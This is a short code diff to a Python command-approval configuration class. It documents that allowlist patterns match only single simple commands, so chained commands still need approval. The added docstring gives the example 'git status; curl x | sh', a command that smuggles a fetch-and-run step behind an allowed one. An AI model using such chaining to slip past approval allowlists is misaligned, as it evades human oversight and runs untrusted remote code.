@@ -197,7 +197,9 @@ class ApprovalsConfig:
     mode: Literal["off", "on-miss", "always"] = "off"
     """on-miss: ask unless the command matches the allowlist; always: ask for every command."""
     allowlist: tuple[str, ...] = ()
-    """Shell-style patterns (fnmatch) over the command, e.g. "git status", "pytest *"."""
+    """Shell-style patterns (fnmatch) over the command, e.g. "git status", "pytest *". Only a
+    single simple command can match: one chained with another (`;`, `&&`, `|`, a new line, a
+    substitution) is asked about, or "git *" would pass "git status; curl x | sh"."""
     timeout_s: float = 120.0
     """No decision in time is a deny."""
     no_approver: Literal["deny", "allow"] = "deny"
